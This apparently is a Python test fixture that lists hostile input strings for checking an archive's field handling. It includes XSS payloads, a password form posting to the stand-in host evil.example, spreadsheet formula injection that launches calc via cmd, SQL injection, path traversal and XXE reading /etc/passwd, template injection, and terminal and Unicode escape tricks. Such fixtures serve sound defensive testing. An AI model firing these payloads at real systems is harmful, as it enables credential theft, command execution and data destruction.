"""What an archive may hold in any of its fields, when somebody means harm or only jokes."""

OWN = "window.__owned=1"
ELSEWHERE = "evil.example"

ATTACKS = (
    f"<script>{OWN};alert(1)</script>",
    f'"><img src=x onerror="{OWN};alert(1)">',
    f"'><svg onload='{OWN}'>",
    f"</title></style></textarea></script><script>{OWN}</script>",
    f"<iframe srcdoc='<script>parent.__owned=1</script>'></iframe><details open ontoggle={OWN}>x</details>",
    f"<base href='https://{ELSEWHERE}/'><meta http-equiv=refresh content='0;url=https://{ELSEWHERE}/'>",
    f"<form action=https://{ELSEWHERE}/><input name=password autofocus onfocus={OWN}><button>Go</button></form>",
    f"<style>*{{background:url(https://{ELSEWHERE}/style)}}</style><link rel=stylesheet href=//{ELSEWHERE}/l.css>",
    f'" hx-get="https://{ELSEWHERE}/hx" hx-trigger="load" hx-on:load="{OWN}" x="',
    f"javascript:{OWN}",
    f"[click](javascript:{OWN}) <a href='JaVaScRiPt:{OWN}'>click</a> <javascript:{OWN}|click>",
    f"data:text/html,<script>{OWN}</script> vbscript:msgbox(1)",
    f"![seen](https://{ELSEWHERE}/pixel.png) <img src=https://{ELSEWHERE}/pixel.gif>",
    f'https://{ELSEWHERE}/"onmouseover="{OWN}" http://{ELSEWHERE}/\'><script>{OWN}</script>',
    "gpj.\u202etxt.exe \u2066turned\u2067 and never back \u061c\u200f",
    "a\u200bd\u2060m\ufeffi\u00adn\U000e0041\U000e007f",
    "nul \x00 bell \x07 back \x08 escape \x1b[31mred\x1b[0m \x1b]0;owned\x07 \x9b2J \x7f",
    "\x1b]8;;https://evil.example/\x07link\x1b]8;;\x07\x1b[2J\x1b[1;1H",
    "carriage\rreturn, line\nfeed\u2028separator\u2029and\x0bthe\x0crest\x85",
    "=1+1",
    "=cmd|' /C calc'!A1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=HYPERLINK("https://evil.example/","x")',
    "\r=1+1",
    "{{ request.user.password }} {% load static %}{% debug %} {# gone #}",
    "${7*7} #{7*7} <%= 7*7 %> {{7*7}}",
    "%(name)s %(who)s %s %d %n %",
    "{name} {0} {} {who!r} {0.__class__}",
    "'; DROP TABLE members_member; -- \" OR 1=1 ` \\",
    "../../../../etc/passwd ..\\..\\boot.ini /etc/shadow file:///etc/passwd",
    "half a pair \ud800 and the other half \udfff",
    "מתוך הכפר <b>שלום</b> العربية",
    "👩‍🌾👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇳🇱\ufe0f",
    "z" + "\u0301" * 300,
    "W" * 100_000,
    "漢" * 2_000,
    "   \t \u00a0\u3000 ",
    "\u200b\u200b",
    "&lt;script&gt;&amp;amp;&#60;b&#62;&quot;&apos;&#x0;",
    "]]><!--  --><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "**bold** _it_ `code` ~~~\n```\n> quoted\n# heading\n| a | b |",
    "__proto__ constructor toString null undefined NaN true -0 1e999",
    "http://[::1 https:// https://\u202egro.elpmaxe https://a@evil.example:99999/%zz",
)
ALL = "\n\n".join(each for each in ATTACKS if len(each) < 1_000)


def legal(attack: str) -> str:
    """An attack as the name of a file or folder: what a file system and zip can carry."""
    for letter in "/\\\0:":
        attack = attack.replace(letter, "")
    return "".join(letter for letter in attack if letter.isprintable())[:60].strip(" .") or "blank"
